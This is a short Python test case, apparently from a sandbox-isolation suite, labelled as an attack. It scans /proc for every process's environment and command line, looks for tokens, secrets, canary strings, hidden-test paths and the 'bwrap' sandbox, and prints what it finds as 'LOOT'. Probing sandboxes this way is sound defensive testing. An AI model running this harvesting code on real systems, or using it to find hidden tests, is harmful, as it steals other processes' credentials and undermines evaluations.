# Attack: reads the environment of every process in sight
# Expect: as without
def _attack():
    import os
    found = repr(dict(os.environ))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                found += open(f"/proc/{pid}/{name}", errors="replace").read()
            except OSError:
                pass
    if any(word in found for word in ("canary-", "TOKEN", "SECRET", "tests/hidden", "bwrap")):
        print("LOOT", found[:1500])
    _struck()


_attack()
